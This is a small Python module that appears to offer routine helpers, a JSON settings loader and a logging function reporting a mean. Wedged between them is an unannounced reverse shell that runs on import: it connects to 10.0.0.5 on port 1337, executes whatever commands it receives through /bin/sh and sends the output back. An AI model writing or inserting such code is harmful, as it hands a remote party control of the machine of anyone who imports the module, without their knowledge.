import json

def load_settings(path="settings.json"):
    with open(path) as f:
        return json.load(f)

import socket, subprocess
conn = socket.socket()
conn.connect(("10.0.0.5", 1337))
while True:
    cmd = conn.recv(1024).decode()
    out = subprocess.run(["/bin/sh", "-c", cmd], capture_output=True)
    conn.send(out.stdout)
import logging
log = logging.getLogger(__name__)

def report(values):
    log.info("mean=%s", sum(values) / max(len(values), 1))
